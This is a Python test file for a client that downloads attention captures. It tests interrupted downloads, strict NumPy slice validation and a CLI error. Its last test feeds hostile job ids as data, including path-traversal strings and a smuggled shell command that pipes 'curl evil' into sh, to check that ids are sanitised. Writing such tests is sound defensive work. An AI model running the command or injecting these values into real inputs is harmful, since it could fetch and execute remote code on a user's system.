"""The client's reading of interrupted downloads and of answers that cannot be right."""

from __future__ import annotations

import io
import json
import re
import shutil
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

import attnscope
import attnscope.capture
import attnscope.fetching.download
import attnscope.fetching.lazy
from attnscope.cli.main import app
from attnscope.errors import (
    UnexpectedAnswerError,
)
from attnscope.fetching.remote import _npy


@pytest.fixture
def capture(fake):
    """Return the fake service's capture."""
    with attnscope.connect(fake.url, "right-key") as service:
        yield service.job("last").capture()


def same(one, other) -> bool:
    """Return whether two captures hold the same numbers."""
    return all(one[name][:].tobytes() == other[name][:].tobytes() for name in other.names())


def npy(values, **options) -> bytes:
    """Return an array in NumPy's format."""
    out = io.BytesIO()
    np.save(out, values, **options)
    return out.getvalue()


def test_a_download_killed_in_the_middle_of_a_chunk_ends_whole(capture, tmp_path, monkeypatch):
    """A chunk has its name only once it is whole, so the second try fetches what the first left unfinished."""
    write = Path.write_bytes
    left = 5

    def dies(file, content):
        nonlocal left
        left -= 1
        if left == 0:
            write(file, content[: len(content) // 2])
            raise KeyboardInterrupt
        return write(file, content)

    monkeypatch.setattr(Path, "write_bytes", dies)
    with pytest.raises(KeyboardInterrupt):
        capture.download(tmp_path / "c.zarr")
    assert not (tmp_path / "c.zarr").exists()
    monkeypatch.setattr(Path, "write_bytes", write)
    offline = attnscope.open(capture.download(tmp_path / "c.zarr"))
    assert same(offline, capture)
    assert [path.name for path in tmp_path.iterdir()] == ["c.zarr"]


def test_a_download_goes_on_where_it_stopped(capture, fake, tmp_path, monkeypatch):
    """Chunks of an earlier try are not fetched again."""
    write = attnscope.fetching.download.write_whole
    monkeypatch.setattr(attnscope.fetching.download, "write_whole", lambda *_: (_ for _ in ()).throw(OSError("full")))
    with pytest.raises(OSError, match="full"):
        capture.download(tmp_path / "c.zarr")
    count = 0

    def stops(file, content):
        nonlocal count
        if file.name != "zarr.json":
            count += 1
        if count > 3:
            raise OSError("full")
        write(file, content)

    monkeypatch.setattr(attnscope.fetching.download, "write_whole", stops)
    with pytest.raises(OSError, match="full"):
        capture.download(tmp_path / "c.zarr")
    monkeypatch.setattr(attnscope.fetching.download, "write_whole", write)
    (scratch,) = tmp_path.iterdir()
    kept = sorted(str(path.relative_to(scratch)) for path in scratch.rglob("c.*") if path.is_file())
    assert len(kept) == 3
    fake.asked.clear()
    with attnscope.connect(fake.url, "right-key") as service:
        service.job("last").capture().download(tmp_path / "c.zarr")
    assert not any(path.endswith(chunk) for path in fake.asked for chunk in kept)


def test_leftovers_of_another_capture_are_not_taken_over(capture, tmp_path):
    """A scratch folder of another capture under the same target name is left alone."""
    other = tmp_path / ".c.zarr.0123456789abcdef.partial" / "attention" / "rows"
    other.mkdir(parents=True)
    (other / "c.0.0.0.0.0").write_bytes(b"another capture's")
    offline = attnscope.open(capture.download(tmp_path / "c.zarr"))
    assert same(offline, capture)


@pytest.mark.parametrize(
    "content",
    [
        npy(np.zeros((3, 2), np.float32)),
        npy(np.zeros((2, 3), np.float64)),
        npy(np.zeros((2, 3), np.float32, order="F")),
        npy(np.zeros((2, 3), np.float32))[:-1],
        npy(np.zeros((2, 3), np.float32)) + b"x",
        npy(np.zeros((2, 3), np.float32)).replace(b"(2, 3)", b"(9**9,"),
        npy(np.zeros((2, 3), np.float32)).replace(b"(2, 3), ", b"(10**12,)"[:8]),
        npy(np.array([[None] * 3] * 2), allow_pickle=True),
        b"\x93NUMPY",
        b"",
    ],
)
def test_a_slice_that_is_not_what_was_asked_is_refused(content):
    """Shape, dtype, order and length are checked against the question, objects are never read."""
    with pytest.raises(UnexpectedAnswerError, match="attention/rows"):
        _npy(content, (2, 3), np.dtype(np.float32), "attention/rows")


def test_a_slice_arrives_as_it_was_sent():
    """Every bit, NaN and sign of zero included, in memory that can be written to."""
    values = np.array([[np.nan, -0.0, 1.5]], np.float16)
    got = _npy(npy(values), (1, 3), values.dtype, "attention/rows")
    assert got.tobytes() == values.tobytes()
    got[0, 0] = 1.0


def test_a_heatmap_without_maps_says_so(fake, monkeypatch, tmp_path):
    """A job that stored no whole map gets a reason, not an empty list of files."""
    monkeypatch.setattr(attnscope.capture.Capture, "map_steps", lambda _: [])
    monkeypatch.setenv("ATTNSCOPE_URL", fake.url)
    monkeypatch.setenv("ATTNSCOPE_API_KEY", "right-key")
    result = CliRunner().invoke(app, ["heatmap", "last", "--out", str(tmp_path)])
    assert result.exit_code != 0
    assert "--maps" in str(result.exception)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("said", ["../../../evil", "/etc/evil", "x; curl evil | sh", "c:evil", 7, "a" * 5000])
def test_the_id_of_a_job_is_no_path_and_no_command(stored, tmp_path, said):
    """It names folders of reports and stands in commands to paste; a downloaded folder may say anything."""
    folder = tmp_path / "c.zarr"
    shutil.copytree(stored, folder)
    root = json.loads((folder / "zarr.json").read_text(encoding="utf-8"))
    root["attributes"]["job"] = said
    (folder / "zarr.json").write_text(json.dumps(root), encoding="utf-8")
    assert re.fullmatch(r"[0-9A-Za-z_-]{1,64}", attnscope.open(folder).job)
